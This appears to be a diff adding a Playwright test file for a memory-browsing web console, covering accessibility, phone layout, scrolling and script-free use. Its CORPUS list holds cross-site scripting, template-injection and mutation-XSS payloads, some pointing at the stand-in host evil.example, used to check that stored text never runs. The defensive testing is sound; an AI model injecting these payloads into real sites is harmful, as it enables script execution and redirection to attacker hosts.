@@ -1,0 +1,171 @@
+"""Each page as a browser shows it: readable for everybody, in both themes, on a phone, and nothing runs but ours."""
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from console.conftest import MANY, Site
+
+AXE = (Path(__file__).parent / "node_modules" / "axe-core" / "axe.min.js").read_text(encoding="utf-8")
+_PAGES = [
+    *("/", "/?q=deploy+key", "/?q=zzz", "/?scope=work&tag=deploy", "/console/timeline", "/console/browse"),
+    *("/console/new", "/console/nothing"),
+    *(f"{name}:{action}" for name in ("key", "episode", "job") for action in ("", "edit", "forget")),
+    "deleted:",
+]
+
+# Texts that ran somewhere once: tags, handlers, templates, broken ends, other names of the same characters.
+CORPUS = [
+    "<script>window.pwned=1</script>",
+    '"><script>window.pwned=1</script>',
+    "'><img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "javascript:window.pwned=1",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
+    "<details open ontoggle=window.pwned=1>",
+    "<form action=https://evil.example><button>Save</button></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<div hx-get='https://evil.example' hx-trigger='load'>x</div>",
+    "<div hx-on::load='window.pwned=1' data-hx-trigger='load' data-hx-get='/'>x</div>",
+    "{{ 7*7 }}{% for x in [1] %}<b>{{ x }}</b>{% endfor %}${7*7}<%= 7*7 %>",
+    "<!--<img src='--><img src=x onerror=window.pwned=1>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e",
+    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
+    "safe\u202e>tpircs/<1=denwp.wodniw>tpircs<",
+    "<style>@import'https://evil.example/x.css';body{display:none}</style>",
+    "<x style=background:url(https://evil.example/y)>",
+    "a\u0000b\u0008c\u001b[31mred\u2028line\u2029end",
+]
+
+
+def opened(page: Any, site: Site, path: str) -> None:
+    name, _, action = path.partition(":")
+    page.goto(site.url + path if path.startswith("/") else site.of(name, action))
+
+
+def findings(page: Any) -> list[str]:
+    """What axe finds that is serious, with the page's own policy in force."""
+    page.evaluate(AXE)
+    found = page.evaluate("() => axe.run(document, {resultTypes: ['violations']})")
+    return [
+        f"{each['id']} ({each['impact']}): {node['html'][:160]} {node['failureSummary'][:200]}"
+        for each in found["violations"]
+        if each["impact"] in ("serious", "critical", "moderate")
+        for node in each["nodes"]
+    ]
+
+
+@pytest.mark.parametrize("path", _PAGES)
+def test_a_page_has_no_obstacle_in_light_and_in_dark(page: Any, site: Site, path: str) -> None:
+    opened(page, site, path)
+    assert findings(page) == []
+    page.emulate_media(color_scheme="dark")
+    assert findings(page) == []
+
+
+def test_the_pages_before_there_is_anything_and_without_a_session_have_no_obstacle(
+    page: Any, empty_site: Site, guarded: tuple[Site, Any]
+) -> None:
+    for url in (f"{empty_site.url}/", f"{empty_site.url}/console/browse", f"{empty_site.url}/console/timeline"):
+        page.goto(url)
+        assert findings(page) == []
+    page.goto(guarded[0].url)
+    assert page.get_by_label("API key").is_visible()
+    assert findings(page) == []
+
+
+@pytest.mark.parametrize("path", _PAGES)
+def test_a_page_fits_a_phone(page: Any, site: Site, path: str) -> None:
+    page.set_viewport_size({"width": 360, "height": 740})
+    opened(page, site, path)
+    assert page.evaluate("document.documentElement.scrollWidth") <= 360
+
+
+def test_stored_text_of_any_kind_is_shown_as_text(page: Any, empty_site: Site) -> None:
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    ids = [
+        empty_site.memory.core.save(
+            content=text,
+            context=text.replace("\0", "")[:200],
+            tags=[text.replace("\0", "")[:60]],
+            metadata={"text": text},
+            messages=[{"role": "user", "content": text, "speaker": text[:60]}],
+        )["id"]
+        for text in CORPUS
+    ]
+    paths = [
+        "/",
+        "/console/timeline",
+        "/console/browse",
+        "/?q=window+pwned",
+        *(f"/console/memories/{id}" for id in ids),
+    ]
+    paths += [f"/console/memories/{id}/edit" for id in ids]
+    for path in paths:
+        page.goto(empty_site.url + path)
+        assert page.evaluate("window.pwned") is None, path
+        assert page.locator("main iframe, main img, main script, main style, main b, main base, main meta").count() == 0
+    assert [url for url in requested if not url.startswith(empty_site.url)] == []
+    for id, text in zip(ids, CORPUS, strict=True):
+        page.goto(f"{empty_site.url}/console/memories/{id}/edit")
+        assert page.get_by_label("Text", exact=True).input_value() == text.replace("\0", "\ufffd")
+
+
+def test_a_text_that_turns_direction_turns_nothing_around_it(page: Any, empty_site: Site) -> None:
+    id = empty_site.memory.core.save(content="\u202eabc \u2067 def", scope="left/right")["id"]
+    page.goto(f"{empty_site.url}/console/memories/{id}")
+    shown = page.locator(".memory-text").inner_text()
+    assert shown == "U+202Eabc U+2067 def"
+    assert page.locator(".crumb").inner_text() == "Memories / left/right"
+
+
+def test_ten_thousand_memories_are_scrolled_to_the_end_and_each_is_met_once(page: Any, large_site: Site) -> None:
+    page.goto(f"{large_site.url}/console/timeline")
+    seen = page.evaluate(
+        """async (many) => {
+            const deadline = performance.now() + 100000;
+            while (document.querySelector("#rows .more") && performance.now() < deadline) {
+                const before = document.querySelectorAll("#rows .row").length;
+                scrollTo(0, document.body.scrollHeight);
+                await new Promise((resolve) => {
+                    const settled = () => { removeEventListener("htmx:afterSettle", settled, true); resolve(); };
+                    addEventListener("htmx:afterSettle", settled, true);
+                    setTimeout(settled, 3000);
+                });
+                if (document.querySelectorAll("#rows .row").length === before) break;
+            }
+            return [...document.querySelectorAll("#rows .row .text")].map((each) => each.textContent);
+        }""",
+        MANY,
+    )
+    numbers = [int(text.split("Note ")[1].split(" ")[0]) for text in seen]
+    assert len(numbers) == MANY
+    assert len(set(numbers)) == MANY
+
+
+def test_without_scripts_memories_are_found_paged_and_changed(engine: Any, site: Site, large_site: Site) -> None:
+    context = engine.new_context(java_script_enabled=False)
+    try:
+        page = context.new_page()
+        page.goto(site.url)
+        page.get_by_label("Search memories").fill("deploy key")
+        page.get_by_label("Search memories").press("Enter")
+        page.get_by_role("link", name="The staging deploy key").click()
+        page.get_by_role("button", name="Delete").click()
+        page.get_by_role("button", name="Undo").click()
+        assert page.get_by_text("Restored.").is_visible()
+        page.goto(large_site.url)
+        page.get_by_role("link", name="More memories").click()
+        assert page.get_by_text(f"Note {MANY - 26} of").is_visible()
+    finally:
+        context.close()
